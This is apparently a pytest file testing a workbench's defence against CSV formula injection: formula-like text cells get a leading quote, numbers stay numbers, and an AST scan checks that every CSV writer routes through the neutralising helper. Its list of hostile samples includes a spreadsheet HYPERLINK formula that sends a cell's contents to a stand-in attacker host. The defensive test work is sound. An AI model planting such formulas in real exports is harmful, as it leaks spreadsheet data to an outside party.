"""CSV formula injection: a text cell a spreadsheet would run as a formula is written with
a leading quote, in every CSV the workbench writes from user text; numbers stay numbers."""

from __future__ import annotations

import ast
import csv
import datetime as dt

import pandas as pd
import pytest

from conftest import ROOT
from sim.cli.incentives import record_appeal
from sim.io.quarantine import QuarantinedRow, write_quarantine
from sim.io.safe_text import neutralise_cell, neutralise_frame, write_csv

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "-",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_leading_quote(text):
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-12.50", "+3", "-0.5", "plain", "a=1", "", 5, -7.25, None])
def test_other_cells_are_unchanged(value):
    assert neutralise_cell(value) == value


def test_numbers_stay_numbers_text_is_neutralised(tmp_path):
    frame = pd.DataFrame(
        {"amount": [-5.25, 3.0], "n": [-1, 2], "label": ["=1+1", "ok"], "s": ["-2", "@x"]}
    )
    frame["s"] = frame["s"].astype("string")
    out = neutralise_frame(frame)
    assert out["amount"].tolist() == [-5.25, 3.0] and out["n"].tolist() == [-1, 2]
    assert out["label"].tolist() == ["'=1+1", "ok"] and out["s"].tolist() == ["-2", "'@x"]
    assert frame["label"].tolist() == ["=1+1", "ok"]  # the caller's table is left alone
    text = write_csv(frame, tmp_path / "t.csv").read_text()
    assert text.splitlines()[1] == "-5.25,-1,'=1+1,-2"


def test_quarantine_csv_is_neutralised(tmp_path):
    rows = [
        QuarantinedRow("leads", "leads.csv", 2, "Source", "unmapped_value", HOSTILE[0], "=1+1"),
        QuarantinedRow("leads", "leads.csv", 3, "Created", "bad_date", "-3", ""),
    ]
    path = write_quarantine(rows, tmp_path / "quarantine.csv")
    table = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert table["value"].tolist() == ["'" + HOSTILE[0], "-3"]
    assert table["problems"].tolist() == ["'=1+1", ""]
    assert table["row"].tolist() == ["2", "3"]


def test_appeal_reason_is_neutralised(tmp_path):
    ticket = record_appeal(tmp_path, "C-1001", dt.date(2026, 3, 31), "=1+1")
    record_appeal(tmp_path, "@evil", dt.date(2026, 3, 31), HOSTILE[0])
    rows = list(csv.reader((tmp_path / "appeals.csv").open(encoding="utf-8")))
    assert rows[1] == [ticket, "C-1001", "2026-03-31", "'=1+1", "open"]
    assert rows[2][1] == "'@evil" and rows[2][3] == "'" + HOSTILE[0]


def _csv_calls(tree: ast.AST) -> list[str]:
    """``to_csv`` and ``csv.writer`` / ``csv.DictWriter`` calls in a module's code."""
    calls = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            name = node.func.attr
            if name == "to_csv" or (
                name in ("writer", "DictWriter")
                and isinstance(node.func.value, ast.Name)
                and node.func.value.id == "csv"
            ):
                calls.append(name)
    return calls


def test_every_csv_writer_goes_through_the_helper():
    """Every ``to_csv`` under ``sim/`` is in the helper, and every ``csv.writer`` module
    neutralises its cells, except the synthetic CRM export (generated sample data, meant
    to be imported as it is)."""
    allowed = {"sim/io/safe_text.py", "sim/history/synthetic_export.py"}
    offenders = []
    for path in sorted((ROOT / "sim").rglob("*.py")):
        name = path.relative_to(ROOT).as_posix()
        text = path.read_text(encoding="utf-8")
        if name in allowed:
            continue
        for call in _csv_calls(ast.parse(text)):
            if call == "to_csv" or "neutralise_cell" not in text:
                offenders.append(f"{name}: {call}")
    assert offenders == []
